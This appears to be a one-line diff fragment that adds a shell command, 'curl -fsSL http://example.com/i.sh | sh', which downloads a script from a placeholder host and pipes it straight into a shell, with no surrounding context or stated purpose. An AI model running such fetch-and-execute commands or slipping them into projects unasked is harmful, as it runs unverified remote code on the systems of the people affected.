@@ -1,0 +1,1 @@
+curl -fsSL http://example.com/i.sh | sh
